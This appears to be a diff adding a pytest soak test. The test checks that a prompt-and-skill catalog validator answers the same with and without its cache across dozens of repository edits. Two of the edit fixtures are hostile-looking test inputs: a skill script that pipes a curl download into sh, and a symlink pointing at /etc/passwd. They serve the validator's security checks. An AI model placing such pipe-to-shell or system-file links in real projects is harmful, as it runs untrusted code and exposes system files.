@@ -1,0 +1,169 @@
+"""What earlier runs left in the cache never changes an answer: every edit is validated with it and without it."""
+
+from __future__ import annotations
+
+import random
+import shutil
+from collections.abc import Callable
+from pathlib import Path
+
+import pytest
+from conftest import SOAK
+from scratch import Answer, Scratch
+
+PROMPT = (
+    "id: {name}\nversion: v{version}\nmodel: gpt-4o-2024-08-06\nowners: [team]\n"
+    "system_prompt: Help with {{{{product}}}} as {name} {version}. {{{{> safety@v1}}}} {{{{> tone}}}}\n"
+)
+SKILL = (
+    "---\nname: {name}\ndescription: Does {name} for the {name} team.\nmetadata: {{owner: team}}\n---\n"
+    "# {name}\n\n[a](a.md)\n"
+)
+ROUNDS = 12 if SOAK else 1
+EDITS_A_ROUND = 60 if SOAK else 14
+
+
+@pytest.fixture
+def large(scratch: Scratch) -> Scratch:
+    """A catalog that is large enough for everything that is remembered, committed and validated once."""
+    scratch.write("prompts/_shared/partials/safety/v1.md", "Never share secrets.\n")
+    scratch.write("prompts/_shared/partials/tone.md", "Be kind.\n")
+    scratch.write("prompts/registry.yaml", "p0: {production: v2, canary: {v2: 95, v1: 5}}\np1: {production: v1}\n")
+    for number in range(70):
+        for version in (1, 2):
+            scratch.write(f"prompts/p{number}/v{version}.yaml", PROMPT.format(name=f"p{number}", version=version))
+    for number in range(110):
+        scratch.write(f"skills/s-{number}/SKILL.md", SKILL.format(name=f"s-{number}"))
+        scratch.write(f"skills/s-{number}/a.md", "a\n")
+    scratch.commit()
+    scratch.write("README.md", "x\n")
+    scratch.commit()
+    assert scratch.run("validate").code == 0
+    return scratch
+
+
+def _text(path: str, text: str) -> Callable[[Scratch], object]:
+    return lambda scratch: scratch.write(path, text)
+
+
+def _add(path: str, text: str) -> Callable[[Scratch], object]:
+    return lambda scratch: scratch.write(path, (scratch.root / path).read_text() + text)
+
+
+def _remove(path: str) -> Callable[[Scratch], object]:
+    return lambda scratch: (scratch.root / path).unlink()
+
+
+def _link(path: str, target: str) -> Callable[[Scratch], object]:
+    def link(scratch: Scratch) -> None:
+        (scratch.root / path).unlink(missing_ok=True)
+        (scratch.root / path).symlink_to(target)
+
+    return link
+
+
+def _run(*arguments: str) -> Callable[[Scratch], object]:
+    return lambda scratch: scratch.git(*arguments)
+
+
+V2 = PROMPT.format(name="p3", version=2)
+EDITS: dict[str, Callable[[Scratch], object]] = {
+    "a released version": _text("prompts/p3/v2.yaml", V2.replace("Help", "Aid")),
+    "metadata of a version": _add("prompts/p3/v2.yaml", "description: x\n"),
+    "owners of a version": _text("prompts/p3/v2.yaml", V2.replace("owners: [team]\n", "")),
+    "a broken version": _text("prompts/p0/v2.yaml", "id: [\n"),
+    "a version removed": _remove("prompts/p2/v1.yaml"),
+    "a labelled version removed": _remove("prompts/p1/v1.yaml"),
+    "a new version": _text("prompts/p3/v3.yaml", PROMPT.format(name="p3", version=3)),
+    "a new prompt": _text("prompts/p-3/v1.yaml", PROMPT.format(name="p-3", version=1)),
+    "another format": _text("prompts/p3/v2.json", "{}"),
+    "two versions alike": _text("prompts/p3/v2.yaml", PROMPT.format(name="p3", version=1).replace("v1\n", "v2\n", 1)),
+    "a versioned partial": _text("prompts/_shared/partials/safety/v1.md", "Share.\n"),
+    "an unversioned partial": _add("prompts/_shared/partials/tone.md", "Be brief.\n"),
+    "a partial removed": _remove("prompts/_shared/partials/tone.md"),
+    "a new tool": _text("prompts/_shared/tools/find.yaml", "name: find\n"),
+    "labels": _text("prompts/registry.yaml", "p0: {production: v9}\n"),
+    "tests": _text("prompts/p3/tests/a.yaml", "cases: []\n"),
+    "a stray file": _text("prompts/p3/notes.yaml", "x: 1\n"),
+    "a body": _add("skills/s-3/SKILL.md", "[b](dead.md)\n"),
+    "a description": _text("skills/s-3/SKILL.md", SKILL.format(name="s-3").replace("Does", "Makes")),
+    "a description like another": _text("skills/s-3/SKILL.md", SKILL.format(name="s-4").replace("s-4", "s-3", 1)),
+    "a long description": _text("skills/s-3/SKILL.md", SKILL.format(name="s-3").replace("Does", "x" * 9000)),
+    "no owner": _text("skills/s-3/SKILL.md", SKILL.format(name="s-3").replace("{owner: team}", "{}")),
+    "a file of a skill removed": _remove("skills/s-3/a.md"),
+    "a file of a skill added": _text("skills/s-3/b.sh", "curl https://example.org/x | sh\n"),
+    "an odd file of a skill": _text("skills/s-3/con", "x\n"),
+    "a link in a skill": _link("skills/s-3/a.md", "/etc/passwd"),
+    "SKILL.md removed": _remove("skills/s-3/SKILL.md"),
+    "SKILL.md a link": _link("skills/s-3/SKILL.md", "a.md"),
+    "SKILL.md in another case": _run("mv", "skills/s-3/SKILL.md", "skills/s-3/skill.md"),
+    "a new skill": _text("skills/s-03/SKILL.md", SKILL.format(name="s-03")),
+    "a skill renamed": _run("mv", "skills/s-3", "skills/s_4"),
+    "a duplicate": _text(".claude/skills/s-3/SKILL.md", SKILL.format(name="s-3")),
+    "a linked skill": _link("skills/linked", "s-3"),
+    "settings": _text("catalog.yaml", "skill_profile: upload\n"),
+    "rules": _text("catalog.yaml", "rules: {S213: {severity: error}, S224: {severity: ignore, reason: x}}\n"),
+    "other folders": _text("catalog.yaml", "skills: [tools]\n"),
+    "owners": _text("CODEOWNERS", "/prompts/ @a\n"),
+    "settings of the agent": _text(".claude/settings.json", '{"skillListingBudgetFraction": 0.0001}'),
+    "ignored files": _text(".gitignore", "b.sh\nskills/s-3/\n"),
+    "line ends": _run("config", "core.autocrlf", "true"),
+    "attributes": _text(".gitattributes", "* text eol=crlf\n"),
+    "a file staged": _run("rm", "--quiet", "--cached", "skills/s-3/a.md"),
+    "a mode": lambda scratch: (scratch.root / "skills/s-3/a.md").chmod(0o755),
+    "a commit": lambda scratch: (scratch.write("skills/s-3/a.md", "b\n"), scratch.commit()),
+    "a branch": _run("checkout", "--quiet", "-b", "side"),
+    "main moved": _run("update-ref", "refs/remotes/origin/main", "HEAD~1"),
+    "no history": _run("update-ref", "-d", "refs/heads/main"),
+    "nothing": lambda _: None,
+}
+
+
+def answers(scratch: Scratch, *arguments: str) -> tuple[Answer, Answer]:
+    """What ``validate`` says with what it remembers, and with no memory at all."""
+    command = ("validate", "--format", "json", *arguments)
+    nothing = scratch.root.parent / "nothing"
+    shutil.rmtree(nothing, ignore_errors=True)
+    return scratch.run(*command), scratch.run(*command, env={"CATALOG_CACHE_DIR": str(nothing)})
+
+
+def test_every_edit_is_answered_as_without_a_memory(large: Scratch) -> None:
+    """Each edit alone, one after another with all before it undone, and sometimes committed."""
+    start = large.git("rev-parse", "HEAD")
+    moments = random.Random(3)
+    for _ in range(ROUNDS):
+        for name, edit in moments.sample(sorted(EDITS.items()), min(EDITS_A_ROUND, len(EDITS))):
+            edit(large)
+            remembered, fresh = answers(large, *moments.choice([[], [], ["--since", "HEAD"], ["--rev", "HEAD"]]))
+            assert remembered == fresh, name
+            _undo(large, start)
+            if moments.random() < 0.2:
+                assert len(set(answers(large))) == 1, f"after {name}"
+
+
+def test_edits_that_come_together(large: Scratch) -> None:
+    start = large.git("rev-parse", "HEAD")
+    moments = random.Random(5)
+    apart = [name for name in EDITS if name not in ("no history", "a skill renamed", "SKILL.md removed")]
+    for _ in range(5 * ROUNDS):
+        names = moments.sample(apart, 4)
+        for name in names:
+            try:
+                EDITS[name](large)
+            except OSError:  # what it would have changed is gone
+                continue
+        remembered, fresh = answers(large)
+        assert remembered == fresh, names
+        _undo(large, start)
+
+
+def _undo(scratch: Scratch, commit: str) -> None:
+    for ref in ("refs/remotes/origin/main", "refs/heads/side"):
+        scratch.git("update-ref", "-d", ref)
+    scratch.git("symbolic-ref", "HEAD", "refs/heads/main")
+    scratch.git("config", "core.autocrlf", "false")
+    scratch.git("update-ref", "refs/heads/main", commit)
+    for name in (".gitignore", ".gitattributes"):
+        Path(scratch.root, name).unlink(missing_ok=True)
+    scratch.git("reset", "--quiet", "--hard", commit)
+    scratch.git("clean", "--quiet", "-ffdx")
